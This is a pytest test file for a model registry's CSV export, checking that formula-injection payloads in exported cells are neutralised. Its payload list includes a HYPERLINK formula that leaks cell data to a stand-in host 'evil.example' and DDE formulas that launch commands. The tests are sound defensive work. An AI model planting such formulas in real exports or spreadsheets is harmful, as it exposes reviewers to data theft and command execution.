"""CSV exports cannot smuggle formulas into a reviewer's spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from registry import csv_export, roles, workflow
from registry.csv_export import spreadsheet_safe
from registry.models import ModelVersion
from tests.factories import UserFactory

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_neutralises_cells_a_spreadsheet_would_read_as_formulas(payload: str) -> None:
    assert spreadsheet_safe(payload) == f"'{payload}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("plain text", "plain text"),
        ("a=b", "a=b"),  # only the first character makes a formula
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-3, "-3"),  # a real number is data, not a formula
        (-0.5, "-0.5"),
        ("-3", "'-3"),  # text is judged by its first character, whatever it looks like
        (True, "true"),
        ({"note": "=1+1"}, '{"note": "=1+1"}'),
        (["-1"], '["-1"]'),
    ],
)
def test_it_leaves_everything_else_as_it_is(value: Any, cell: str) -> None:
    assert spreadsheet_safe(value) == cell


def test_every_cell_is_quoted_so_a_separator_inside_cannot_start_a_new_cell() -> None:
    lines = list(csv_export.csv_lines(["name", "=header"], [["a;=1+1", "x,y"], ["line\nbreak", -1]]))
    assert lines[0] == '"name","\'=header"\r\n'
    assert lines[1] == '"a;=1+1","x,y"\r\n'
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["name", "'=header"],
        ["a;=1+1", "x,y"],
        ["line\nbreak", "-1"],
    ]


def test_every_csv_export_in_the_app_goes_through_the_shared_helper() -> None:
    # A new export that writes CSV by hand would skip the neutralising: keep them all in one place.
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|content_type=[\"']text/csv|\.to_csv\(")
    allowed = {
        "registry/csv_export.py",  # the helper itself
        "registry/client.py",  # the data scientist's own client uploads its frames; not an export
        "registry/registration.py",  # stores an MLflow input example as the golden set file
        "monitoring/retraining.py",  # uploads the retrained golden set; not an export
    }
    offenders = []
    for app in ("registry", "monitoring", "scoring", "config"):
        for path in (root / app).rglob("*.py"):
            relative = path.relative_to(root).as_posix()
            if relative in allowed or "/migrations/" in relative:
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == [], f"write CSV exports with registry.csv_export: {offenders}"


# --- through the export views -----------------------------------------------------------------------


@pytest.fixture
def hostile_events(register: Callable[..., ModelVersion], churn_model: Any, author: Any, reviewer: Any) -> None:
    """Audit rows whose reason and actor a hostile user chose."""
    version = register(churn_model, author)
    workflow.version_transition(actor=author, version=version, action="submit")
    workflow.version_transition(actor=reviewer, version=version, action="request_changes", comment=PAYLOADS[0])
    attacker = UserFactory(username="@attacker", role=roles.DATA_SCIENTIST)
    churn_model.owner = attacker
    churn_model.save()
    workflow.version_transition(actor=attacker, version=version, action="submit")


def _first_characters(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode())))
    return [cell for row in rows for cell in row if cell]


@pytest.mark.parametrize("url", ["/audit/?export=csv", "/api/audit/export/"])
def test_the_audit_export_neutralises_hostile_cells(client: Any, manager: Any, hostile_events: None, url: str) -> None:
    client.force_login(manager)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    content = b"".join(response.streaming_content)
    cells = _first_characters(content)
    assert f"'{PAYLOADS[0]}" in cells
    assert "'@attacker" in cells
    dangerous = [cell for cell in cells if cell.startswith(csv_export.FORMULA_PREFIXES)]
    assert dangerous == []
